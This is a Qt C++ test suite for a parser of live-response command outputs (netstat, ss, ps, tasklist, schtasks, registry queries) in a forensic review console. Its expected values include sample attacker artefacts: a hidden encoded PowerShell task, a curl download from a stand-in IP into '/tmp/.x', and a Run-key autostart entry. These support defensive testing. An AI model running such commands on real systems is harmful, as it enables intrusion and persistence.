// SPDX-License-Identifier: GPL-3.0-or-later
// SPDX-FileCopyrightText: MTR Review Console contributors
#include "EvidenceTestData.h"
#include "evidence/LiveResponseReader.h"

#include <QJsonArray>
#include <QJsonDocument>
#include <QTest>

using mtr::evidence::LiveResponseReader;
using mtr::evidence::test::evidenceBytes;
using mtr::evidence::test::evidenceText;

namespace {

QStringList words(const char* spaceSeparated)
{
    return QString::fromLatin1(spaceSeparated).split(QLatin1Char(' '));
}

} // namespace

/// Live Response outputs: detection, jc-checked parsing, other languages, composed samples.
class TestLiveResponseReader : public QObject
{
    Q_OBJECT

private slots:
    void detects_data();
    void detects();
    void matchesJc_data();
    void matchesJc();
    void rowFields_data();
    void rowFields();
    void refusesWhatItCannotRead_data();
    void refusesWhatItCannotRead();
    void splitsEndpoints_data();
    void splitsEndpoints();
};

namespace {

void addWindowsDetectionRows()
{
    QTest::addRow("win-netstat-aon") << "live-response/jc-win10-netstat-aon.out"
                                     << "netstat-windows"
                                     << "en" << 208;
    QTest::addRow("win-netstat-an") << "live-response/jc-win10-netstat-an.out"
                                    << "netstat-windows"
                                    << "en" << -1;
    QTest::addRow("win-netstat-aonb") << "live-response/jc-win10-netstat-aonb.out"
                                      << "netstat-windows"
                                      << "en" << -1;
    QTest::addRow("win-netstat-no-pid") << "live-response/jc-win10-netstat.out"
                                        << "netstat-windows"
                                        << "en" << -1;
    QTest::addRow("win-systeminfo") << "live-response/jc-win10-systeminfo.out"
                                    << "systeminfo"
                                    << "en" << 1;
    QTest::addRow("win7-systeminfo") << "live-response/jc-win7-systeminfo.out"
                                     << "systeminfo"
                                     << "en" << 1;
    QTest::addRow("win2012-systeminfo") << "live-response/jc-win2012r2-systeminfo.out"
                                        << "systeminfo"
                                        << "en" << 1;
    QTest::addRow("win-systeminfo-hyperv") << "live-response/jc-win10-systeminfo-hyperv-utc.out"
                                           << "systeminfo"
                                           << "en" << 1;
    QTest::addRow("win10-ipconfig") << "live-response/jc-win10-ipconfig.out"
                                    << "ipconfig"
                                    << "en" << -1;
    QTest::addRow("win11-ipconfig") << "live-response/jc-win11-ipconfig.out"
                                    << "ipconfig"
                                    << "en" << -1;
    QTest::addRow("tasklist-en") << "composed/tasklist-v-en.out"
                                 << "tasklist"
                                 << "en" << 5;
    QTest::addRow("tasklist-de") << "composed/tasklist-v-de.out"
                                 << "tasklist"
                                 << "de" << 3;
    QTest::addRow("netstat-de") << "composed/netstat-ano-de.out"
                                << "netstat-windows"
                                << "de" << 5;
    QTest::addRow("systeminfo-de") << "composed/systeminfo-de.out"
                                   << "systeminfo"
                                   << "de" << 1;
    QTest::addRow("ipconfig-de") << "composed/ipconfig-all-de.out"
                                 << "ipconfig"
                                 << "de" << 2;
    QTest::addRow("schtasks-en") << "composed/schtasks-list-v-en.out"
                                 << "schtasks"
                                 << "en" << 2;
    QTest::addRow("schtasks-de") << "composed/schtasks-list-v-de.out"
                                 << "schtasks"
                                 << "de" << 1;
    QTest::addRow("reg-query") << "composed/reg-query-run.out"
                               << "reg-query"
                               << "" << 6;
}

void addLinuxProcessAndLoginRows();

void addLinuxDetectionRows()
{
    QTest::addRow("linux-netstat-lnp") << "live-response/jc-ubuntu1804-netstat-sudo-lnp-space.out"
                                       << "netstat-linux"
                                       << "" << 47;
    QTest::addRow("linux-netstat-aeep") << "live-response/jc-ubuntu1804-netstat-sudo-aeep.out"
                                        << "netstat-linux"
                                        << "" << -1;
    QTest::addRow("linux-netstat-centos") << "live-response/jc-centos77-netstat-sudo-aeep.out"
                                          << "netstat-linux"
                                          << "" << -1;
    QTest::addRow("linux-netstat-no-state") << "live-response/jc-generic-netstat-no-state.out"
                                            << "netstat-linux"
                                            << "" << -1;
    QTest::addRow("linux-netstat-old") << "live-response/jc-generic-netstat-old.out"
                                       << "netstat-linux"
                                       << "" << -1;
    QTest::addRow("ss-tulpen") << "live-response/jc-ubuntu1804-ss-sudo-tulpen.out"
                               << "ss"
                               << "" << 73;
    QTest::addRow("ss-a") << "live-response/jc-ubuntu1804-ss-sudo-a.out"
                          << "ss"
                          << "" << 158;
    QTest::addRow("ss-centos") << "live-response/jc-centos77-ss-sudo-a.out"
                               << "ss"
                               << "" << -1;
    QTest::addRow("ss-wide") << "live-response/jc-generic-ss-wide.out"
                             << "ss"
                             << "" << -1;
    addLinuxProcessAndLoginRows();
}

void addLinuxProcessAndLoginRows()
{
    QTest::addRow("ps-aux") << "process/jc-ubuntu1804-ps-axu.out"
                            << "ps-aux"
                            << "" << 172;
    QTest::addRow("ps-aux-centos") << "process/jc-centos77-ps-axu.out"
                                   << "ps-aux"
                                   << "" << 109;
    QTest::addRow("ps-ef") << "process/jc-ubuntu1804-ps-ef.out"
                           << "ps-ef"
                           << "" << 172;
    QTest::addRow("ps-ef-centos") << "process/jc-centos77-ps-ef.out"
                                  << "ps-ef"
                                  << "" << 109;
    QTest::addRow("ps-ef-tree") << "composed/ps-ef-tree.out"
                                << "ps-ef"
                                << "" << 5;
    QTest::addRow("lsof") << "live-response/jc-ubuntu1804-lsof-sudo.out"
                          << "lsof"
                          << "" << -1;
    QTest::addRow("last") << "live-response/jc-ubuntu1804-last-w.out"
                          << "last"
                          << "" << -1;
    QTest::addRow("last-wixF") << "live-response/jc-centos77-last-wixF.out"
                               << "last"
                               << "" << -1;
    QTest::addRow("who-a") << "live-response/jc-centos77-who-a.out"
                           << "who"
                           << "" << 6;
    QTest::addRow("who") << "composed/who.out"
                         << "who"
                         << "" << 2;
    QTest::addRow("crontab-system") << "live-response/jc-ubuntu1804-crontab-u.out"
                                    << "crontab"
                                    << "" << -1;
    QTest::addRow("crontab-centos") << "live-response/jc-centos77-crontab-u.out"
                                    << "crontab"
                                    << "" << -1;
    QTest::addRow("crontab-l") << "composed/crontab-l.out"
                               << "crontab"
                               << "" << 3;
}

} // namespace

void TestLiveResponseReader::detects_data()
{
    QTest::addColumn<QString>("file");
    QTest::addColumn<QString>("command");
    QTest::addColumn<QString>("language");
    QTest::addColumn<int>("rows");

    addWindowsDetectionRows();
    addLinuxDetectionRows();
}

void TestLiveResponseReader::detects()
{
    QFETCH(QString, file);
    QFETCH(QString, command);
    QFETCH(QString, language);
    QFETCH(int, rows);

    const QString text = evidenceText(file);
    QString detectedLanguage;
    QCOMPARE(LiveResponseReader::detect(text, &detectedLanguage), command);
    QCOMPARE(detectedLanguage, language);
    const auto out = LiveResponseReader::read(text);
    QVERIFY(out.recognised);
    QCOMPARE(out.command, command);
    if (rows >= 0) {
        QCOMPARE(out.rows.size(), rows);
    } else {
        QVERIFY(out.rows.size() > 0);
    }
    for (const auto& d : out.diagnostics) {
        QVERIFY2(d.level != mtr::evidence::ReadDiagnostic::Level::Error, qPrintable(d.message));
    }
}

void TestLiveResponseReader::matchesJc_data()
{
    QTest::addColumn<QString>("out");
    QTest::addColumn<QString>("expected");
    QTest::addColumn<QStringList>("keys");

    const QStringList windows =
        words("proto local_address local_port foreign_address foreign_port state pid");
    QTest::addRow("win-netstat-aon") << "jc-win10-netstat-aon"
                                     << "" << windows;
    QTest::addRow("win-netstat-an") << "jc-win10-netstat-an"
                                    << "" << windows;
    QTest::addRow("win-netstat") << "jc-win10-netstat"
                                 << "" << windows;
    QTest::addRow("win-netstat-aonb") << "jc-win10-netstat-aonb"
                                      << "" << (windows + words("program_name"));
    QTest::addRow("linux-netstat-lnp-space")
        << "jc-ubuntu1804-netstat-sudo-lnp-space"
        << ""
        << words("proto local_address local_port foreign_address foreign_port state pid "
                 "program_name path kind");
    QTest::addRow("ss-tulpen") << "jc-ubuntu1804-ss-sudo-tulpen"
                               << "" << words("netid state local_address local_port recv_q send_q");
    QTest::addRow("ps-aux") << "process/jc-ubuntu1804-ps-axu"
                            << "" << words("user pid stat start time command vsz rss");
}

void TestLiveResponseReader::matchesJc()
{
    QFETCH(QString, out);
    QFETCH(QStringList, keys);

    const QString base =
        out.contains(QLatin1Char('/')) ? out : QStringLiteral("live-response/") + out;
    const auto parsed = LiveResponseReader::read(evidenceText(base + QStringLiteral(".out")));
    const QJsonArray expected =
        QJsonDocument::fromJson(evidenceBytes(base + QStringLiteral(".expected.json"))).array();
    QCOMPARE(parsed.rows.size(), expected.size());
    for (qsizetype i = 0; i < expected.size(); ++i) {
        const QJsonObject want = expected.at(i).toObject();
        const QJsonObject got = parsed.rows.at(i);
        for (const QString& key : keys) {
            if (!want.contains(key)) {
                continue;
            }
            QJsonValue wantValue = want.value(key);
            if (wantValue.isString() && wantValue.toString().startsWith(QLatin1Char('['))
                && key.endsWith(QLatin1String("address"))) {
                wantValue = wantValue.toString().mid(1).chopped(1); // we strip brackets
            }
            if (wantValue.isNull() && got.value(key).toString().isEmpty()) {
                continue; // jc writes null where we keep an empty cell (no UDP state)
            }
            QVERIFY2(got.value(key) == wantValue,
                     qPrintable(QStringLiteral("row %1 %2: got '%3' want '%4'")
                                    .arg(i)
                                    .arg(key,
                                         got.value(key).toVariant().toString(),
                                         wantValue.toVariant().toString())));
        }
    }
}

namespace {

void addWindowsFieldRows()
{
    QTest::addRow("tasklist-image-with-spaces") << "composed/tasklist-v-en.out" << 0 << "image_name"
                                                << "System Idle Process";
    QTest::addRow("tasklist-user-with-space") << "composed/tasklist-v-en.out" << 1 << "user_name"
                                              << "NT AUTHORITY\\NETWORK SERVICE";
    QTest::addRow("tasklist-status-with-space") << "composed/tasklist-v-en.out" << 4 << "status"
                                                << "Not Responding";
    QTest::addRow("tasklist-de-user") << "composed/tasklist-v-de.out" << 0 << "user_name"
                                      << "NT-AUTORITÄT\\SYSTEM";
    QTest::addRow("tasklist-de-window") << "composed/tasklist-v-de.out" << 2 << "window_title"
                                        << "Windows PowerShell";
    QTest::addRow("netstat-de-state") << "composed/netstat-ano-de.out" << 1 << "state"
                                      << "ESTABLISHED";
    QTest::addRow("netstat-de-state-original")
        << "composed/netstat-ano-de.out" << 1 << "state_original"
        << "HERGESTELLT";
    QTest::addRow("netstat-de-remote") << "composed/netstat-ano-de.out" << 2 << "foreign_address"
                                       << "198.51.100.44";
    QTest::addRow("netstat-de-udp-no-state") << "composed/netstat-ano-de.out" << 4 << "state"
                                             << "";
    QTest::addRow("systeminfo-en-host")
        << "live-response/jc-win10-systeminfo.out" << 0 << "host_name"
        << "DESKTOP-WIN01";
    QTest::addRow("systeminfo-en-multiline")
        << "live-response/jc-win10-systeminfo.out" << 0 << "Processor(s)"
        << "1 Processor(s) Installed.\n[01]: Intel64 Family 6 Model 158 Stepping 13 GenuineIntel "
           "~2400 Mhz";
    QTest::addRow("systeminfo-en-colon-in-key")
        << "live-response/jc-win10-systeminfo.out" << 0 << "Virtual Memory: Max Size"
        << "2,687 MB";
    QTest::addRow("systeminfo-de-host") << "composed/systeminfo-de.out" << 0 << "host_name"
                                        << "CONTOSO-WKS-0042";
    QTest::addRow("systeminfo-de-os") << "composed/systeminfo-de.out" << 0 << "os_name"
                                      << "Microsoft Windows 10 Pro";
    QTest::addRow("ipconfig-ipv4") << "live-response/jc-win10-ipconfig.out" << 1 << "ipv4_address"
                                   << "100.115.71.66";
    QTest::addRow("ipconfig-de-ipv4") << "composed/ipconfig-all-de.out" << 1 << "ipv4_address"
                                      << "10.20.4.42";
    QTest::addRow("schtasks-task-to-run") << "composed/schtasks-list-v-en.out" << 1 << "task_to_run"
                                          << "powershell.exe -w hidden -enc SQBFAFgA";
    QTest::addRow("schtasks-de-run-as") << "composed/schtasks-list-v-de.out" << 0 << "run_as_user"
                                        << "SYSTEM";
    QTest::addRow("schtasks-time-with-colons")
        << "composed/schtasks-list-v-en.out" << 1 << "last_run_time"
        << "11/30/2026 8:41:20 AM";
    QTest::addRow("reg-data-with-spaces") << "composed/reg-query-run.out" << 2 << "data"
                                          << "%APPDATA%\\Updater\\upd.exe -silent";
    QTest::addRow("reg-key-with-space")
        << "composed/reg-query-run.out" << 4 << "key"
        << "HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon";
    QTest::addRow("reg-default-no-data") << "composed/reg-query-run.out" << 5 << "name"
                                         << "(Default)";
}

void addLinuxFieldRows()
{
    QTest::addRow("ss-unix-socket-path")
        << "live-response/jc-ubuntu1804-ss-sudo-a.out" << 42 << "path"
        << "/run/user/1000/systemd/private";
    QTest::addRow("ss-unix-socket-inode")
        << "live-response/jc-ubuntu1804-ss-sudo-a.out" << 42 << "inode"
        << "93069";
    QTest::addRow("ss-interface-split")
        << "live-response/jc-ubuntu1804-ss-sudo-a.out" << 153 << "interface"
        << "lo";
    QTest::addRow("ss-service-port-name")
        << "live-response/jc-ubuntu1804-ss-sudo-a.out" << 153 << "local_port"
        << "domain";
    QTest::addRow("ps-ef-command-with-spaces") << "composed/ps-ef-tree.out" << 4 << "command"
                                               << "curl -s http://198.51.100.44:8443/x -o /tmp/.x";
    QTest::addRow("ps-ef-uid") << "composed/ps-ef-tree.out" << 2 << "uid"
                               << "www-data";
    QTest::addRow("lsof-name") << "live-response/jc-ubuntu1804-lsof-sudo.out" << 2 << "name"
                               << "/lib/systemd/systemd";
    QTest::addRow("lsof-type") << "live-response/jc-ubuntu1804-lsof-sudo.out" << 2 << "type"
                               << "REG";
    QTest::addRow("lsof-fd") << "live-response/jc-ubuntu1804-lsof-sudo.out" << 2 << "fd"
                             << "txt";
    QTest::addRow("lsof-empty-tid") << "live-response/jc-ubuntu1804-lsof-sudo.out" << 2 << "tid"
                                    << "";
    QTest::addRow("who-host-in-rest") << "composed/who.out" << 1 << "rest"
                                      << "(198.51.100.44)";
    QTest::addRow("who-a-no-user") << "live-response/jc-centos77-who-a.out" << 0 << "tty"
                                   << "system";
    QTest::addRow("last-user") << "live-response/jc-centos77-last-wixF.out" << 1 << "user"
                               << "jsmith";
    QTest::addRow("last-host") << "live-response/jc-centos77-last-wixF.out" << 1 << "hostname"
                               << "192.168.255.1";
    QTest::addRow("crontab-every-5") << "composed/crontab-l.out" << 1 << "minute"
                                     << "*/5";
    QTest::addRow("crontab-reboot") << "composed/crontab-l.out" << 2 << "occurrence"
                                    << "reboot";
}

} // namespace

void TestLiveResponseReader::rowFields_data()
{
    QTest::addColumn<QString>("file");
    QTest::addColumn<int>("row");
    QTest::addColumn<QString>("key");
    QTest::addColumn<QString>("value");

    addWindowsFieldRows();
    addLinuxFieldRows();
}

void TestLiveResponseReader::rowFields()
{
    QFETCH(QString, file);
    QFETCH(int, row);
    QFETCH(QString, key);
    QFETCH(QString, value);

    const auto out = LiveResponseReader::read(evidenceText(file));
    QVERIFY(out.recognised);
    QVERIFY2(row < out.rows.size(), qPrintable(QString::number(out.rows.size())));
    QCOMPARE(out.rows.at(row).value(key).toString(), value);
}

void TestLiveResponseReader::refusesWhatItCannotRead_data()
{
    QTest::addColumn<QString>("text");
    QTest::addColumn<QString>("hint");

    QTest::addRow("french-netstat")
        << evidenceText(QStringLiteral("composed/netstat-ano-fr.out")) << QString();
    QTest::addRow("french-netstat-with-hint")
        << evidenceText(QStringLiteral("composed/netstat-ano-fr.out"))
        << QStringLiteral("netstat-windows");
    QTest::addRow("prose") << QStringLiteral("The user said the machine was slow.\nNothing else.")
                           << QString();
    QTest::addRow("ps-hint-on-tasklist")
        << evidenceText(QStringLiteral("composed/tasklist-v-en.out")) << QStringLiteral("ps-ef");
    QTest::addRow("tasklist-hint-on-ps")
        << evidenceText(QStringLiteral("composed/ps-ef-tree.out")) << QStringLiteral("tasklist");
    QTest::addRow("unknown-hint") << QStringLiteral("x") << QStringLiteral("dir");
    QTest::addRow("empty") << QString() << QString();
}

void TestLiveResponseReader::refusesWhatItCannotRead()
{
    QFETCH(QString, text);
    QFETCH(QString, hint);

    const auto out = LiveResponseReader::read(text, hint);
    QVERIFY(!out.recognised);
    QVERIFY(out.rows.isEmpty());
    QVERIFY(!out.diagnostics.isEmpty());
}

void TestLiveResponseReader::splitsEndpoints_data()
{
    QTest::addColumn<QString>("endpoint");
    QTest::addColumn<QString>("address");
    QTest::addColumn<QString>("port");

    QTest::addRow("ipv4") << "0.0.0.0:135"
                          << "0.0.0.0"
                          << "135";
    QTest::addRow("bracketed-ipv6") << "[::]:443"
                                    << "::"
                                    << "443";
    QTest::addRow("linux-ipv6") << ":::22"
                                << "::"
                                << "22";
    QTest::addRow("wildcards") << "*:*"
                               << "*"
                               << "*";
    QTest::addRow("zone-id") << "[fe80::1%4]:139"
                             << "fe80::1%4"
                             << "139";
    QTest::addRow("service-name") << "localhost:ssh"
                                  << "localhost"
                                  << "ssh";
}

void TestLiveResponseReader::splitsEndpoints()
{
    QFETCH(QString, endpoint);
    QFETCH(QString, address);
    QFETCH(QString, port);

    QString gotAddress;
    QString gotPort;
    LiveResponseReader::splitEndpoint(endpoint, gotAddress, gotPort);
    QCOMPARE(gotAddress, address);
    QCOMPARE(gotPort, port);
}

QTEST_GUILESS_MAIN(TestLiveResponseReader)
#include "TestLiveResponseReader.moc"
